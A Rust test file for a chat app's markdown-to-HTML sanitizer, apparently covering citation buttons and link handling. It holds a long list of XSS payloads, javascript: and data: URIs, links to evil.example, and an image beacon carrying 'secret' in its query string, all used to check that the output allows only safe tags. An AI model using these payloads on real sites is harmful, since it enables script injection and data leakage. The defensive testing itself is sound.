use chat::Citation;
use proptest::prelude::*;

use super::html;

fn cited(numbers: &[u32]) -> Vec<Citation> {
    numbers.iter().map(|n| Citation { n: *n, title: format!("Document {n}"), ..Citation::default() }).collect()
}

#[test]
fn markdown_becomes_the_html_of_the_protocol() {
    let cite = r#"<button type="button" class="cite" data-n="1">1</button>"#;
    let link = r#"rel="noopener nofollow" target="_blank""#;
    for (markdown, expected) in [
        ("Hello", "<p>Hello</p>".to_string()),
        ("One\ntwo", "<p>One<br>two</p>".into()),
        ("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <del>c</del> <code>d</code></p>".into()),
        ("# T\n\n#### t", "<h3>T</h3><h4>t</h4>".into()),
        ("- a\n- b", "<ul><li>a</li><li>b</li></ul>".into()),
        ("1. a\n\n   p\n2. b", "<ol><li><p>a</p><p>p</p></li><li><p>b</p></li></ol>".into()),
        ("3. a\n4. b", "<ol start=\"3\"><li>a</li><li>b</li></ol>".into()),
        ("- a\n  - b **c**\n- d", "<ul><li>a<ul><li>b <strong>c</strong></li></ul></li><li>d</li></ul>".into()),
        ("- a\n  ```\n  x\n  ```\n- d", "<ul><li>a<pre><code>x\n</code></pre></li><li>d</li></ul>".into()),
        ("> q", "<blockquote><p>q</p></blockquote>".into()),
        ("```rs\na<b\n```", "<pre><code>a&lt;b\n</code></pre>".into()),
        (
            "|a|b|\n|-|-|\n|1|[x](https://e.org)|",
            format!(
                "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td><a href=\"https://e.org\" {link}>x</a></td></tr></tbody></table>"
            ),
        ),
        ("Yes [1].", format!("<p>Yes {cite}.</p>")),
        ("Yes [2].", "<p>Yes [2].</p>".into()),
        ("Yes [1, 1].", format!("<p>Yes {cite}{cite}.</p>")),
        ("Yes [1][2].", format!("<p>Yes {cite}[2].</p>")),
        ("Yes [1].\n\n[1]: https://evil.example", format!("<p>Yes {cite}.</p>")),
        ("`[1]`", "<p><code>[1]</code></p>".into()),
        ("A <b>bold</b> tag", "<p>A &lt;b&gt;bold&lt;/b&gt; tag</p>".into()),
        ("<!-- hidden -->seen", "<p></p>".into()),
        ("![a picture](https://evil.example/x.png)", "<p>a picture</p>".into()),
        ("see https://e.org/a_(b), ok", format!("<p>see <a href=\"https://e.org/a_(b)\" {link}>https://e.org/a_(b)</a>, ok</p>")),
        ("见https://e.org/a。好", format!("<p>见<a href=\"https://e.org/a\" {link}>https://e.org/a</a>。好</p>")),
        ("[m](mailto:a@e.org)", format!("<p><a href=\"mailto:a@e.org\" {link}>m</a></p>")),
        ("[rel](./other.md)", "<p>rel</p>".into()),
        ("", String::new()),
    ] {
        let found = html(markdown, &cited(&[1]));
        assert_eq!(found.replace("<p></p>", ""), expected.replace("<p></p>", ""), "{markdown}");
    }
}

/// Bodies that tried to do something, in many syntaxes.
fn hostile() -> Vec<String> {
    let schemes = [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "\u{1}javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:image/svg+xml;base64,PHN2Zz4=",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "blob:https://e.org/x",
        "//evil.example/x",
        "\\\\evil.example\\x",
        "https:\\\\evil.example",
        "https:/evil.example",
        "https:evil.example",
        "http://",
        "https://user:pass@evil.example",
        "https://good.example@evil.example/",
        "https://e.org/\"onmouseover=\"alert(1)",
        "https://e.org/'><script>alert(1)</script>",
        "https://e.org/\u{202e}gnp.exe",
        "ftp://e.org",
        "tel:123",
        "intent://x#Intent;end",
        "?q=1",
        "#frag",
        "about:blank",
    ];
    let mut all: Vec<String> = Vec::new();
    for scheme in schemes {
        all.push(format!("[x]({scheme})"));
        all.push(format!("[x](<{scheme}>)"));
        all.push(format!("[x][r]\n\n[r]: {scheme}"));
        all.push(format!("<{scheme}>"));
        all.push(format!("![x]({scheme})"));
        all.push(format!("[![x]({scheme})]({scheme})"));
    }
    let raw = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href='https://evil.example' onclick='x'>x</a>",
        "<style>*{background:url(https://evil.example)}</style>",
        "<link rel=stylesheet href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<form action=//evil.example><input name=a></form>",
        "<object data=//evil.example></object>",
        "<embed src=//evil.example>",
        "<video><source onerror=alert(1)></video>",
        "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php echo 1 ?>",
        "<!DOCTYPE html><html><body onload=alert(1)>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "</p></div><script>alert(1)</script>",
        "<button class=\"cite\" data-n=\"9\" onclick=\"x\">9</button>",
        "`<script>`</code><script>alert(1)</script>",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "```</code><script>\nx\n```",
        "| <script>alert(1)</script> |\n|---|\n| <img src=x> |",
        "# <script>alert(1)</script>",
        "- <script>alert(1)</script>",
        "> <script>alert(1)</script>",
        "[<img src=x onerror=alert(1)>](https://e.org)",
        "[x](https://e.org \"title\" onclick=alert(1))",
        "[x](https://e.org '\"><script>alert(1)</script>')",
        "**<b onclick=x>**",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)",
        "\u{0}<script\u{0}>alert(1)</script>",
        "[1](javascript:alert(1))",
        "[<script>1]",
        "[1, <b>]",
        "[99999999999999999999]",
        "[-1]",
        "https://e.org/<script>alert(1)</script>",
        "https://e.org/\"><img src=x>",
        "http://e.org/`x`<img src=x>",
        "\u{202e}<script>",
        "<\u{200b}script>alert(1)</script>",
        "<a\nhref=javascript:alert(1)\n>x</a>",
        "<x/ onclick=alert(1)//",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "<details open ontoggle=alert(1)>",
        "<base href=//evil.example>",
        "![x][1]\n\n[1]: https://evil.example/beacon.png",
        "![](https://evil.example/?q=secret)",
        "[ ](https://e.org)",
        "<https://e.org/\u{7f}>",
    ];
    all.extend(raw.iter().map(|text| (*text).to_owned()));
    all
}

/// Every tag of the output is one the protocol names, with the attributes it names.
fn assert_safe(input: &str, output: &str) {
    const TAGS: [&str; 24] = [
        "p",
        "br",
        "strong",
        "em",
        "del",
        "code",
        "pre",
        "ul",
        "ol",
        "li",
        "blockquote",
        "h3",
        "h4",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "hr",
        "a",
        "button",
        "ol start",
        "",
    ];
    for piece in output.split('<').skip(1) {
        let (tag, text) = piece.split_once('>').unwrap_or_else(|| panic!("an open tag in {output} from {input}"));
        assert!(!text.contains('>'), "a stray > in {output} from {input}");
        let (name, attributes) = tag.trim_start_matches('/').split_once(' ').unwrap_or((tag.trim_start_matches('/'), ""));
        assert!(TAGS.contains(&name) && !name.is_empty(), "{name} in {output} from {input}");
        match name {
            "a" if !tag.starts_with('/') => assert_link(attributes, input),
            "button" if !tag.starts_with('/') => {
                let number = attributes.strip_prefix("type=\"button\" class=\"cite\" data-n=\"").and_then(|rest| rest.strip_suffix('"'));
                assert!(number.is_some_and(|n| n == "1"), "{attributes} from {input}");
            }
            "ol" => {
                assert!(attributes.is_empty() || attributes.trim_start_matches("start=\"").trim_end_matches('"').parse::<u64>().is_ok())
            }
            _ => assert_eq!(attributes, "", "{name} from {input}"),
        }
    }
}

fn assert_link(attributes: &str, input: &str) {
    let address = attributes.strip_prefix("href=\"").and_then(|rest| rest.strip_suffix("\" rel=\"noopener nofollow\" target=\"_blank\""));
    let address = address.unwrap_or_else(|| panic!("{attributes} from {input}"));
    let allowed = ["http://", "https://", "mailto:"].iter().any(|scheme| address.to_ascii_lowercase().starts_with(scheme));
    assert!(allowed && !address.contains(['"', '<', '>', '\'', '\n']), "{address} from {input}");
}

#[test]
fn nothing_hostile_gets_through() {
    let payloads = hostile();
    assert!(payloads.len() >= 200, "{}", payloads.len());
    for payload in &payloads {
        for input in [payload.clone(), format!("- {payload}"), format!("|a|\n|-|\n|{payload}|"), format!("text {payload} [1]")] {
            assert_safe(&input, &html(&input, &cited(&[1])));
        }
    }
}

#[test]
fn a_link_that_lies_is_only_its_label() {
    for address in ["javascript:alert(1)", "//evil.example", "https://good.example@evil.example/", "data:text/html,x", "./a.md"] {
        assert_eq!(html(&format!("[x]({address})"), &[]), "<p>x</p>", "{address}");
    }
}

#[test]
fn depth_and_length_are_bounded() {
    for pattern in ["> ", "- ", "1. ", "**", "[", "![", "*", "`", "<", "| ", "~~", "[1]"] {
        let input = pattern.repeat(40_000);
        assert_safe(pattern, &html(&input, &cited(&[1])));
    }
}

proptest! {
    #[test]
    fn any_text_is_safe(input in "[ -~\n<>\\[\\]()`*_~|#!\"'&:/\\\\a-c1-2\u{202e}中。]{0,200}") {
        assert_safe(&input, &html(&input, &cited(&[1])));
    }

    #[test]
    fn any_mix_of_pieces_is_safe(pieces in proptest::collection::vec(proptest::sample::select(hostile()), 1..5)) {
        let input = pieces.join("\n");
        assert_safe(&input, &html(&input, &cited(&[1])));
    }
}
